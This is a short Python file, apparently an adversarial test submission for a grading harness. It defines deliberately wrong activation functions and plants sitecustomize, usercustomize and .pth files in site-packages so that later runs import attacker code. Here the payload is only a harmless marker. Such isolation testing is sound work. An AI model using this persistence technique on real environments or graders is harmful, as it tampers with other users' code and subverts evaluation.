"""Attack: plant sitecustomize/usercustomize and a .pth in site-packages and the user site, so
that later runs (an honest submission's) import attacker code."""
import os
import site
import sys

import numpy as np


def _wrong(z):
    return np.asarray(z, dtype=float) * 0 + 0.123


sigmoid = sigmoid_derivative = relu = relu_derivative = tanh = tanh_derivative = step = _wrong

PAYLOAD = "import numpy\nnumpy.HOSTILE = True\n"
targets = [p for p in sys.path if "site-packages" in p] + [os.path.expanduser("~/.local/lib")]
try:
    targets.append(site.getusersitepackages())
except Exception:
    pass
for folder in targets:
    for name in ("sitecustomize.py", "usercustomize.py", "hostile.pth"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as f:
                f.write(PAYLOAD)
        except OSError:
            pass
